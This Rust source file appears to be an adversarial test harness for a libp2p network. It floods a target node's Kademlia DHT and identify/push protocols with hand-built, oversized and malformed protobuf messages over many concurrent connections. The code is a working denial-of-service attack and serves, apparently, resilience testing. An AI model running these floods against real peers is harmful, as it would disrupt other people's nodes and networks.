//! Attacks on the DHT and on who one says to be, in bytes written by hand.

use std::time::Duration;

use anyhow::Result;
use futures::{AsyncReadExt as _, AsyncWriteExt as _, future::join_all};
use libp2p::{PeerId, StreamProtocol};

use crate::{Victim, begun, stranger::Stranger};

const STRANGERS: usize = 12;
/// Streams that each stranger fills before the attack counts as begun.
const FIRST: usize = 24;
/// Announcements under as many keys on one stream.
const ANNOUNCED: usize = 300;

fn varint(mut value: usize, out: &mut Vec<u8>) {
    while value >= 0x80 {
        out.push((value & 0x7f) as u8 | 0x80);
        value >>= 7;
    }
    out.push(value as u8);
}

/// A length-delimited field of a protobuf.
fn field(number: usize, bytes: &[u8], out: &mut Vec<u8>) {
    varint(number << 3 | 2, out);
    varint(bytes.len(), out);
    out.extend_from_slice(bytes);
}

fn framed(message: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    varint(message.len(), &mut out);
    out.extend_from_slice(message);
    out
}

/// An entry of a peer at port 80 of loopback.
fn peer_entry(peer: PeerId) -> Vec<u8> {
    let mut entry = Vec::new();
    field(1, &peer.to_bytes(), &mut entry);
    field(2, &[4, 127, 0, 0, 1, 6, 0, 80], &mut entry);
    entry
}

/// `ADD_PROVIDER`, `GET_PROVIDERS`, `FIND_NODE` or a record, under a new key, naming a peer so many times.
fn kad_message(kind: u8, peer: PeerId, times: usize) -> Vec<u8> {
    let mut message = vec![1 << 3, kind];
    field(2, &rand::random::<[u8; 32]>(), &mut message);
    let entry = peer_entry(peer);
    for _ in 0..times {
        field(9, &entry, &mut message);
    }
    if kind == 0 {
        let mut record = Vec::new();
        field(1, &rand::random::<[u8; 32]>(), &mut record);
        field(5, &[7; 8000], &mut record);
        field(3, &record, &mut message);
    }
    message
}

/// What a stranger writes on its stream of that number.
fn kad_packets(own: PeerId, number: usize) -> Vec<u8> {
    match number % 8 {
        // Only what names its sender is looked at.
        0 => (0..ANNOUNCED).flat_map(|_| framed(&kad_message(2, own, 1))).collect(),
        1 => framed(&kad_message(2, PeerId::random(), 100)),
        2 => framed(&kad_message(3, own, 0)),
        3 => framed(&kad_message(4, own, 0)),
        4 => framed(&kad_message(0, own, 0)),
        5 => framed(&kad_message(4, PeerId::random(), 2000)),
        6 => framed(&[0xff; 4000]),
        _ => vec![0xff; 64],
    }
}

pub(crate) async fn flood(victim: Victim) -> Result<()> {
    let protocol = StreamProtocol::try_from_owned(format!("/hayloft/{}/kad/1", victim.network))?;
    on_all(victim, &protocol, kad_packets).await
}

/// `identify/push`, over and over: long lists of addresses and protocols, oversized and malformed ones.
pub(crate) async fn identify(victim: Victim) -> Result<()> {
    let protocol = StreamProtocol::new("/ipfs/id/push/1.0.0");
    let (mut listen, mut names) = (Vec::new(), Vec::new());
    for port in 0..300_u16 {
        let [high, low] = port.to_be_bytes();
        field(2, &[4, 127, 0, 0, 1, 6, high, low], &mut listen);
        field(3, format!("/made/up/{port}").as_bytes(), &mut names);
    }
    let packets = [framed(&listen), framed(&names), framed(&[listen, names].concat()), framed(&[7; 60_000])];
    on_all(victim, &protocol, |_, number| packets[number % packets.len()].clone()).await
}

async fn on_all(
    victim: Victim,
    protocol: &StreamProtocol,
    packets: impl Fn(PeerId, usize) -> Vec<u8>,
) -> Result<()> {
    let strangers = join_all((0..STRANGERS).map(|number| {
        let address = if number % 2 == 0 { &victim.quic } else { &victim.tcp };
        Stranger::connect(address, victim.peer)
    }));
    let strangers: Vec<Stranger> = strangers.await.into_iter().collect::<Result<_>>()?;
    let first = join_all(strangers.iter().map(|stranger| send(stranger, protocol, &packets, FIRST)));
    let sent: usize = first.await.into_iter().sum();
    begun(sent);
    join_all(strangers.iter().map(|stranger| send(stranger, protocol, &packets, usize::MAX))).await;
    Ok(())
}

/// Writes on that many streams; answers how many the other side took.
async fn send(
    stranger: &Stranger,
    protocol: &StreamProtocol,
    packets: &impl Fn(PeerId, usize) -> Vec<u8>,
    streams: usize,
) -> usize {
    let mut taken = 0;
    for number in 0..streams {
        let Ok(mut stream) = stranger.open(protocol).await else {
            tokio::time::sleep(Duration::from_millis(20)).await;
            continue;
        };
        let packets = packets(stranger.own, number);
        taken += usize::from(stream.write_all(&packets).await.is_ok() && stream.close().await.is_ok());
        let mut answer = [0; 1024];
        let _ = tokio::time::timeout(Duration::from_millis(50), stream.read(&mut answer)).await;
    }
    taken
}
